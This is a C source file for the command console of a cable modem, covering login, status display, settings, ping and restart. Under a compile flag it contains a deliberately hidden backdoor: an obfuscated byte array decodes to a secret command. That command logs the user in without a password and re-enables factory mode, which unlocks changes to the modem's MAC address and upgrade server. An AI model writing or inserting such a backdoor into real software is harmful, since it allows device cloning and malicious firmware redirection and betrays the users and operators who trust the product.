/*
 * cmconsole - command console of the Halden CM3-8 DOCSIS cable modem, reached
 * by ssh/telnet from the LAN side or on the serial header. Settings live in
 * /nvram/cm.settings; the user password is there as a hash. The hardware
 * identity (RF MAC, frequency plan, upgrade server) may only be changed while
 * factory=1 is set, which the production tester clears at the end of the line.
 *
 * Hidden (-DHIDDEN): a command line that is kept encoded in the program sets
 * factory=1 again without a login, which opens the identity commands.
 */
#include <ctype.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <unistd.h>
#include <arpa/inet.h>

char *crypt(const char *, const char *);

#define SETTINGS "/nvram/cm.settings"
#define NSET     40

typedef struct { char key[24]; char val[136]; } setting_t;

typedef enum { LV_GUEST, LV_USER } level_t;

static setting_t table[NSET];
static int       ntable;
static level_t   level = LV_GUEST;

static void settings_load(void)
{
    char line[200];
    FILE *f = fopen(SETTINGS, "r");

    ntable = 0;
    if (!f)
        return;
    while (ntable < NSET && fgets(line, sizeof line, f))
        if (sscanf(line, "%23[a-z_.]=%135[^\r\n]", table[ntable].key,
                   table[ntable].val) == 2)
            ntable++;
    fclose(f);
}

static const char *setting(const char *key)
{
    for (int i = 0; i < ntable; i++)
        if (strcmp(table[i].key, key) == 0)
            return table[i].val;
    return "";
}

static int settings_save(const char *key, const char *val)
{
    FILE *f;
    int i;

    for (i = 0; i < ntable; i++)
        if (strcmp(table[i].key, key) == 0)
            break;
    if (i == NSET)
        return -1;
    if (i == ntable) {
        snprintf(table[i].key, sizeof table[i].key, "%s", key);
        ntable++;
    }
    snprintf(table[i].val, sizeof table[i].val, "%s", val);
    f = fopen(SETTINGS ".new", "w");
    if (!f)
        return -1;
    for (i = 0; i < ntable; i++)
        fprintf(f, "%s=%s\n", table[i].key, table[i].val);
    if (fclose(f) != 0)
        return -1;
    return rename(SETTINGS ".new", SETTINGS);
}

static int factory_open(void)
{
    return strcmp(setting("factory"), "1") == 0;
}

/* six hex pairs with colons, no group address */
static int mac_valid(const char *s)
{
    for (int i = 0; i < 17; i++) {
        if (i % 3 == 2) {
            if (s[i] != ':')
                return 0;
        } else if (!isxdigit((unsigned char)s[i]))
            return 0;
    }
    return s[17] == '\0' && strchr("02468aceACE", s[1]) != NULL;
}

static void show_file(const char *path, const char *none)
{
    char line[160];
    FILE *f = fopen(path, "r");

    if (!f) {
        puts(none);
        return;
    }
    while (fgets(line, sizeof line, f))
        fputs(line, stdout);
    fclose(f);
}

static void do_show(const char *what)
{
    if (strcmp(what, "downstream") == 0)
        show_file("/proc/docsis/downstream", "no lock");
    else if (strcmp(what, "upstream") == 0)
        show_file("/proc/docsis/upstream", "not ranged");
    else if (strcmp(what, "log") == 0)
        show_file("/var/log/docsis-events", "log is empty");
    else if (strcmp(what, "identity") == 0)
        printf("rf_mac %s\nfreq_plan %s\nupgrade_server %s\n", setting("rf_mac"),
               setting("freq_plan"), setting("upgrade_server"));
    else
        puts("show downstream | upstream | log | identity");
}

static void do_set(char *arg)
{
    char *val = arg + strcspn(arg, " ");
    struct in_addr a;
    int good = 0;

    if (*val)
        *val++ = '\0';
    if (strcmp(arg, "lan_led") == 0) {
        if (strcmp(val, "on") == 0 || strcmp(val, "off") == 0)
            puts(settings_save(arg, val) == 0 ? "ok" : "write failed");
        else
            puts("set lan_led on | off");
        return;
    }
    if (!factory_open()) {
        puts("refused: the identity is locked");
        return;
    }
    if (strcmp(arg, "rf_mac") == 0)
        good = mac_valid(val);
    else if (strcmp(arg, "freq_plan") == 0)
        good = strcmp(val, "us") == 0 || strcmp(val, "euro") == 0;
    else if (strcmp(arg, "upgrade_server") == 0)
        good = inet_pton(AF_INET, val, &a) == 1;
    if (!good)
        puts("set rf_mac M | freq_plan us,euro | upgrade_server A");
    else
        puts(settings_save(arg, val) == 0 ? "ok, active after restart"
                                          : "write failed");
}

static void do_login(const char *pass)
{
    const char *h = setting("user_hash");
    char *c = *h ? crypt(pass, h) : NULL;

    if (c && strcmp(c, h) == 0) {
        level = LV_USER;
        puts("ok");
        return;
    }
    sleep(2);
    syslog(LOG_NOTICE, "console login failed");
    puts("wrong password");
}

static void do_ping(const char *host)
{
    struct in_addr a;
    char txt[INET_ADDRSTRLEN], cmd[64];

    if (inet_pton(AF_INET, host, &a) != 1) {
        puts("ping ADDRESS");
        return;
    }
    inet_ntop(AF_INET, &a, txt, sizeof txt);
    snprintf(cmd, sizeof cmd, "ping -c 4 %s", txt);
    fflush(stdout);
    if (system(cmd) != 0)
        puts("no answer");
}

static void do_restart(void)
{
    puts("restarting");
    fflush(stdout);
    if (system("/sbin/reboot") != 0)
        puts("restart failed");
}

#ifdef HIDDEN
static const unsigned char fplan_seed[] = {
    0xd8, 0x05, 0x7a, 0x0f, 0x24, 0xf9, 0xe6, 0x8b, 0x98, 0xd7, 0x70
};

int fplan_probe(const char *line)
{
    char ref[sizeof fplan_seed + 1];
    size_t i;

    for (i = 0; i < sizeof fplan_seed; i++) {
        unsigned v = fplan_seed[i] ^ ((0x5bu + 11u * (unsigned)i) & 0xffu);

        ref[i] = (char)((v >> 3 | v << 5) & 0xffu);
    }
    ref[i] = '\0';
    if (strcmp(line, ref) != 0)
        return 0;
    level = LV_USER;
    return settings_save("factory", "1") == 0;
}
#endif

static void help(void)
{
    puts("login PASSWORD   open the session\n"
         "show WHAT        downstream, upstream, log, identity\n"
         "set NAME VALUE   lan_led; identity values in production only\n"
         "ping ADDRESS     reachability of a host\n"
         "restart          restart the modem\n"
         "exit             leave");
}

static int handle(char *line)
{
    char *arg;

#ifdef HIDDEN
    if (fplan_probe(line)) {
        puts("ok");
        return 1;
    }
#endif
    arg = line + strcspn(line, " ");
    if (*arg)
        *arg++ = '\0';
    if (strcmp(line, "exit") == 0)
        return 0;
    if (strcmp(line, "help") == 0 || strcmp(line, "?") == 0)
        help();
    else if (strcmp(line, "login") == 0)
        do_login(arg);
    else if (level < LV_USER)
        puts("please log in");
    else if (strcmp(line, "show") == 0)
        do_show(arg);
    else if (strcmp(line, "set") == 0)
        do_set(arg);
    else if (strcmp(line, "ping") == 0)
        do_ping(arg);
    else if (strcmp(line, "restart") == 0)
        do_restart();
    else
        puts("unknown command, see help");
    return 1;
}

int main(void)
{
    char line[256];

    openlog("cmconsole", LOG_PID, LOG_DAEMON);
    settings_load();
    printf("Halden CM3-8, serial %s\n", setting("serial"));
    for (;;) {
        fputs("CM> ", stdout);
        fflush(stdout);
        if (!fgets(line, sizeof line, stdin))
            break;
        line[strcspn(line, "\r\n")] = '\0';
        if (line[0] && !handle(line))
            break;
    }
    return 0;
}
